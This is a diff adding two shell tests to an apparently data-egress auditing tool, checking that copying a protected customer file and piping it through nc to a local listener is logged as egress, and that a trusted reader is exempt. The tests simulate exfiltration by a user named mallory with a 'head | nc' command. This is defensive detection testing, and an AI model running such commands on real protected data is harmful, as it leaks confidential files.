@@ -44,6 +44,61 @@ setup() {
 	[ "$(echo "$e" | jq -r .user.audit.id | sort -u)" = 1004 ]
 }
 
+@test "nc sends a copy of a protected file while copy_file_range still writes it: egress from the first byte" {
+	# The copy's one call counts its read when it returns; the session
+	# must be marked when it starts, or nc's bytes leave unseen.  The
+	# copy stays on one file system: across two, tmpfs says EXDEV.
+	big=/srv/customers/big.bin part=/srv/public/out/part.bin
+	head -c 134217728 /dev/zero >"$big"
+	chmod 644 "$big"
+	: >"$BATS_FILE_TMPDIR/SINK.out"
+	# shellcheck disable=SC2016 # the inner shell expands it
+	run as_user mallory bash -c '
+		reader copy-once "$1" "$2" >/dev/null & c=$!
+		until [ -s "$2" ] || ! kill -0 $c 2>/dev/null; do :; done
+		head -c 1048576 "$2" | nc 127.0.0.1 9000
+		kill -0 $c 2>/dev/null && echo copy-still-running
+		wait $c' _ "$big" "$part"
+	rm -f "$big" "$part"
+	echo "$output" >&2
+	[ "$status" -eq 0 ]
+	[[ "$output" == *copy-still-running* ]]
+	sleep 1
+	drain_records
+	sent=$(sed -n 's/^received=//p' "$BATS_FILE_TMPDIR/SINK.out" | tail -n1)
+	[ "$sent" -gt 0 ]
+	e=$(records_where '.event.action == "egress" and .daudit.egress.kind == "net"')
+	echo "$e" >&2
+	[ "$(echo "$e" | jq -s 'map(.daudit.bytes) | add')" -eq "$sent" ]
+	[ "$(echo "$e" | jq -r .process.name | sort -u)" = nc ]
+	[ "$(echo "$e" | jq -r .daudit.egress.marked_by | sort -u)" = login_session ]
+}
+
+@test "a trusted reader's copy_file_range marks nothing; the same program untrusted is egress" {
+	cp /opt/daudit/helpers/reader /usr/bin/trusted-reader
+	printf 'dataset customers {\n\ttree /srv/customers\n\treader /usr/bin/trusted-reader\n}\n' >/tmp/trusted.conf
+	daudit policy load /tmp/trusted.conf
+	drain_records /dev/null
+	out=/srv/public/out/trusted.bin
+	as_user mallory trusted-reader copy "$F" "$out" >/dev/null
+	drain_records
+	cat "$RECS" >&2
+	[ -z "$(records_where '.event.action == "egress"')" ]
+	[ -z "$(records_where '.event.action == "file-read"')" ]
+	cmp "$F" "$out"
+	drain_records /dev/null
+	# The control: the same calls by the untrusted copy are a read and
+	# an egress (a file outside the protected tree).
+	as_user mallory reader copy "$F" "$out" >/dev/null
+	drain_records
+	cat "$RECS" >&2
+	[ "$(records_where '.event.action == "file-read"' | jq -s 'map(.daudit.bytes) | add')" -eq 100000 ]
+	[ "$(records_where '.event.action == "egress"' | jq -s 'map(.daudit.bytes) | add')" -eq 100000 ]
+	[ "$(records_where '.event.action == "egress"' | jq -r .file.path)" = "$out" ]
+	load_policy
+	rm -f /usr/bin/trusted-reader /tmp/trusted.conf "$out"
+}
+
 @test "cp of a protected file to /tmp: a file egress with its path, mount and filesystem" {
 	as_user mallory cp "$F" /tmp/stolen.csv
 	drain_records
